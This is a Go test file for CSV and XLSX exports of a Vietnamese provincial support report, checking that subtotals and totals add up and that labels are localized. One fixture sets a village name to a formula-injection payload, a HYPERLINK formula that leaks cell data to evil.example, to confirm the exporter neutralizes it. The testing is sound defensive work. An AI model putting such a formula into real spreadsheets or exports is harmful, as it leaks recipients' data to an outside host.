package forms

import (
	"bytes"
	"context"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"toso/store"
)

// table is a report file read back: the title lines, then the rows under
// the header, by column name.
type table struct {
	title  []string
	header []string
	rows   []map[string]string
}

func readTable(t *testing.T, recs [][]string, first string) table {
	t.Helper()
	var tb table
	for i, rec := range recs {
		if len(rec) > 0 && rec[0] == first {
			tb.header = rec
			for _, r := range recs[i+1:] {
				m := map[string]string{}
				for j, h := range rec {
					if j < len(r) {
						m[h] = r[j]
					}
				}
				tb.rows = append(tb.rows, m)
			}
			return tb
		}
		if len(rec) > 0 {
			tb.title = append(tb.title, rec[0])
		}
	}
	t.Fatalf("no header row starting with %q in %q", first, recs)
	return tb
}

func num(t *testing.T, s string) float64 {
	t.Helper()
	if s == "" {
		return 0
	}
	v, err := strconv.ParseFloat(s, 64)
	if err != nil {
		t.Fatalf("%q is not a number", s)
	}
	return v
}

// The columns compared with the brute-force count, in Vietnamese.
var upwardColumns = map[string]string{
	"visits":                "Lượt hỗ trợ",
	"citizens":              "Người dân được hỗ trợ (lần đầu)",
	"sessions":              "Buổi tập huấn",
	"attendees":             "Người tham dự",
	"women":                 "Nữ",
	"done:vneid_l2":         "Hỗ trợ thành công: Kích hoạt định danh điện tử VNeID mức 2",
	"done:cashless_payment": "Hỗ trợ thành công: Thanh toán không dùng tiền mặt",
	"barrier:no_smartphone": "Rào cản: Không có điện thoại thông minh",
}

// The upward report of a province, as CSV (read with encoding/csv) and as
// XLSX (read with excelize), after random activity and a village renamed
// to a formula: every subtotal is the sum of its rows, the commune
// subtotals and the details each add up to the total, village rows and the
// total equal a brute-force count over the raw rows, the merged commune's
// two parts add up to its own count, and the formula is neutralized.
func TestUpwardFilesAddUp(t *testing.T) {
	seed := uint64(time.Now().UnixNano())
	t.Logf("seed %d", seed)
	w := newWorld(t, seed)
	w.activity(250)
	ctx := context.Background()
	evil := `=HYPERLINK("http://evil.example/?leak="&C3,"Xóm")`
	if _, err := w.s.UpdateArea(ctx, w.actors["CA"], w.areas["A2"].ID, store.AreaPatch{Name: &evil}); err != nil {
		t.Fatal(err)
	}
	b := loadBrute(t, w.s)
	from, to := "2025-01-01", "2026-11-20"
	u, err := w.s.Upward(ctx, w.actors["CP"], store.ReportQuery{AreaID: w.areas["P"].ID, From: from, To: to})
	if err != nil {
		t.Fatal(err)
	}
	var csvBuf, xlsxBuf bytes.Buffer
	if err := WriteUpwardCSV(ctx, &csvBuf, w.s, u, VI); err != nil {
		t.Fatal(err)
	}
	if err := WriteUpwardXLSX(ctx, &xlsxBuf, w.s, u, VI); err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(csvBuf.Bytes(), []byte("\uFEFF"))))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(xlsxBuf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); strings.Join(got, "|") != "Báo cáo|Tổng hợp cấp xã" {
		t.Errorf("sheets %q, want Báo cáo and Tổng hợp cấp xã", got)
	}
	xrows, err := f.GetRows("Báo cáo")
	if err != nil {
		t.Fatal(err)
	}
	for name, tb := range map[string]table{"csv": readTable(t, recs, "Loại dòng"), "xlsx": readTable(t, xrows, "Loại dòng")} {
		t.Run(name, func(t *testing.T) {
			checkUpwardTable(t, seed, tb, b, w)
			if got := tb.title; len(got) < 4 || !strings.Contains(got[1], "Tỉnh Thử (mã 99)") || !strings.Contains(got[2], "01/01/2025") ||
				!strings.Contains(got[2], "20/11/2026") || got[3] != "Ngày lập: 20/11/2026" {
				t.Errorf("title block %q, want the unit with its code, the period and the day made", got)
			}
		})
	}
	if !bytes.Contains(csvBuf.Bytes(), []byte(`"'=HYPERLINK(""http://evil.example/?leak=""&C3,""Xóm"")`)) ||
		bytes.Contains(csvBuf.Bytes(), []byte(`,"=HYPERLINK`)) {
		t.Errorf("the CSV does not neutralize the village named %s", evil)
	}
	found := false
	for _, r := range xrows {
		for _, c := range r {
			if strings.Contains(c, "HYPERLINK") {
				found = true
				if !strings.HasPrefix(c, "'") {
					t.Errorf("XLSX cell %q is not neutralized", c)
				}
			}
		}
	}
	if !found {
		t.Error("the renamed village is missing from the XLSX")
	}
	// The second sheet: the commune subtotals and the total, which they add up to.
	srows, err := f.GetRows("Tổng hợp cấp xã")
	if err != nil {
		t.Fatal(err)
	}
	st := readTable(t, srows, "Loại dòng")
	sum, total := 0.0, 0.0
	for _, r := range st.rows {
		switch r["Loại dòng"] {
		case "Cộng cấp xã":
			sum += num(t, r["Lượt hỗ trợ"])
		case "Tổng cộng":
			total = num(t, r["Lượt hỗ trợ"])
		default:
			t.Errorf("summary sheet row %v is neither a commune subtotal nor the total", r)
		}
	}
	if want := b.count(from, to, b.inArea(w.areas["P"].ID))["visits"]; sum != want || total != want {
		t.Errorf("summary sheet: communes add up to %v visits, total %v, want %v", sum, total, want)
	}
	// English on request.
	var en bytes.Buffer
	if err := WriteUpwardCSV(ctx, &en, w.s, u, EN); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"Row,Commune,Unit,Level", "Commune subtotal", "Helped (done): VNeID electronic identity, level 2",
		"Barrier: No smartphone", "part merged into Xã An", "Period: from 2025-01-01 to 2026-11-20"} {
		if !strings.Contains(en.String(), want) {
			t.Errorf("the English CSV has no %q", want)
		}
	}
}

func checkUpwardTable(t *testing.T, seed uint64, tb table, b *brute, w *world) {
	t.Helper()
	from, to := "2025-01-01", "2026-11-20"
	numeric := tb.header[6:]
	open, details, communes := map[string]float64{}, map[string]float64{}, map[string]float64{}
	parts := counts{}
	villages := map[string]string{"Thôn Một": "A1", "Thôn Ba": "B1", `=HYPERLINK("http://evil.example/?leak="&C3,"Xóm")`: "A2"}
	seenVillages := 0
	for _, r := range tb.rows {
		kind := r["Loại dòng"]
		switch kind {
		case "Chi tiết":
			for _, h := range numeric {
				open[h] += num(t, r[h])
				details[h] += num(t, r[h])
			}
			unit := strings.TrimPrefix(r["Đơn vị"], "'")
			if key, ok := villages[unit]; ok {
				seenVillages++
				want := b.count(from, to, b.inArea(w.areas[key].ID))
				for k, col := range upwardColumns {
					if got := num(t, r[col]); got != want[k] {
						t.Errorf("seed %d: %s, %s = %v, brute force %v", seed, unit, col, got, want[k])
					}
				}
			}
			if strings.HasPrefix(unit, "Xã Cũ") {
				if !strings.Contains(unit, "(cũ, đến 30/06/2025): phần sáp nhập vào Xã") || r["Tỷ lệ sáp nhập (%)"] != "50" {
					t.Errorf("merged row %q (share %q), want it marked as the former commune's half", unit, r["Tỷ lệ sáp nhập (%)"])
				}
				for k, col := range upwardColumns {
					parts[k] += num(t, r[col])
				}
			}
		case "Cộng cấp xã", "Tổng cộng":
			for _, h := range numeric {
				if h == "Thành viên/100 dân" {
					continue
				}
				if got := num(t, r[h]); got != open[h] && kind == "Cộng cấp xã" {
					t.Errorf("seed %d: %s, %s = %v, the sum of its rows is %v", seed, r["Đơn vị"], h, got, open[h])
				}
				if kind == "Cộng cấp xã" {
					communes[h] += num(t, r[h])
				} else if got := num(t, r[h]); got != details[h] || got != communes[h] {
					t.Errorf("seed %d: total %s = %v; details add up to %v, commune subtotals to %v", seed, h, got, details[h], communes[h])
				}
			}
			open = map[string]float64{}
			if kind == "Tổng cộng" {
				want := b.count(from, to, b.inArea(w.areas["P"].ID))
				for k, col := range upwardColumns {
					if got := num(t, r[col]); got != want[k] {
						t.Errorf("seed %d: province total %s = %v, brute force %v", seed, col, got, want[k])
					}
				}
				if got := num(t, r["Số tổ"]); got != 4 {
					t.Errorf("total teams %v, want 4", got)
				}
			}
		default:
			t.Errorf("row kind %q", kind)
		}
	}
	if seenVillages != 3 {
		t.Errorf("found %d of the 3 villages", seenVillages)
	}
	whole := b.count(from, to, b.inArea(w.areas["O"].ID))
	for k := range upwardColumns {
		if parts[k] != whole[k] {
			t.Errorf("seed %d: the former commune's parts add up to %v %s, its own count is %v", seed, parts[k], k, whole[k])
		}
	}
}
